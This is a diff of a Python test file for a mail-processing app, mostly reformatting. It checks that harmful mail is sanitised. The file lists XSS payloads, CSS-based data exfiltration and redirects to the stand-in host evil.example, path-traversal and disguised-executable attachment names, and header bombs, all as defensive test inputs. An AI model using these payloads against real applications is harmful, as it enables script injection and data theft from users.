@@ -1,4 +1,4 @@
-"""Mail made to harm goes through the whole pipeline: nothing that runs is kept, nothing crashes, one item is set aside."""
+"""Mail made to harm goes through the whole pipeline: nothing that runs is kept, and nothing else is held up."""
 
 import base64
 import io
@@ -17,7 +17,17 @@ from tests.mailing import a_mail, connect, fetch
 
 pytestmark = pytest.mark.django_db
 
-EVENTS = ("onload", "onerror", "onclick", "onmouseover", "onfocus", "onbegin", "ontoggle", "onanimationstart", "onpointerenter")
+EVENTS = (
+    "onload",
+    "onerror",
+    "onclick",
+    "onmouseover",
+    "onfocus",
+    "onbegin",
+    "ontoggle",
+    "onanimationstart",
+    "onpointerenter",
+)
 RUNS = [
     "<script>alert(1)</script>",
     "<scr<script>ipt>alert(1)</scr</script>ipt>",
@@ -28,14 +38,14 @@ RUNS = [
     '<svg onload="alert(1)"><script>alert(1)</script><a xlink:href="javascript:alert(1)">x</a></svg>',
     '<svg><foreignObject><body onload="alert(1)"></foreignObject></svg><math href="javascript:alert(1)">x</math>',
     '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">',
-    '<form action="https://evil.example"><input name="password" formaction="javascript:alert(1)"><button>x</button></form>',
+    '<form action="//evil.example"><input name="password"><button formaction="javascript:alert(1)">x</button></form>',
     '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example">',
     '<link rel="stylesheet" href="https://evil.example/a.css"><style>@import "https://evil.example/b.css";</style>',
     '<div style="background:url(https://evil.example/?x)">a</div><style>input[value^="a"]{background:url(//evil.example)}</style>',
     '<div style="position:fixed;inset:0;z-index:9999">a cover</div><p style="behavior:url(#x)">x</p>',
     '<div style="width:expression(alert(1))">x</div><div style="b\\61 ckground:u\\72l(//evil.example)">x</div>',
-    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
-    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
     '<template><img src=x onerror="alert(1)"></template><isindex action="javascript:alert(1)">',
 ]
 FORBIDDEN = re.compile(
@@ -103,14 +113,17 @@ def test_zip_bomb_stays_a_small_file(mailbox):
 def with_file(content, name, kind):
     head = re.sub(rb"\nContent-[^\n]*|\nMIME[^\n]*", b"", a_mail().partition(b"\n\n")[0])
     parts = (
-        f'\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="b"\n\n--b\nContent-Type: text/plain\n\nSee.\n--b\n'
-        f'Content-Type: {kind}\nContent-Transfer-Encoding: base64\nContent-Disposition: attachment; filename="{name}"\n\n'
+        '\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="b"\n\n'
+        "--b\nContent-Type: text/plain\n\nSee.\n--b\n"
+        f"Content-Type: {kind}\nContent-Transfer-Encoding: base64\n"
+        f'Content-Disposition: attachment; filename="{name}"\n\n'
     )
     return head + parts.encode() + base64.encodebytes(content) + b"--b--\n"
 
 
 @pytest.mark.parametrize(
-    "name", ["../../../etc/passwd", "invoice\u202egpj.exe", "a\x00b.txt", "x" * 5000 + ".txt", "C:\\Windows\\x.dll", "", "."]
+    "name",
+    ["../../../etc/passwd", "invoice\u202egpj.exe", "a\x00b.txt", "x" * 5000 + ".txt", "C:\\Windows\\x.dll", "", "."],
 )
 def test_file_names_that_lie_stay_inside_the_files_folder(mailbox, name, settings):
     raw = take(mailbox, with_file(b"abc", name, "application/octet-stream"))
@@ -131,7 +144,7 @@ def test_file_names_that_lie_stay_inside_the_files_folder(mailbox, name, setting
         b"References: " + b"<x@y> " * 50_000 + b"\r\n",
         b"To: " + b"a@b.example, " * 20_000 + b"\r\n",
         b"Date: Thu, 99 Foo 99999 99:99:99 +9999\r\n",
-        b"Content-Type: text/plain; charset=\"../../x\"\r\n",
+        b'Content-Type: text/plain; charset="../../x"\r\n',
         b"X" * 100_000 + b": y\r\n",
         b"\xff\xfe\x00: \x00\r\n",
     ],
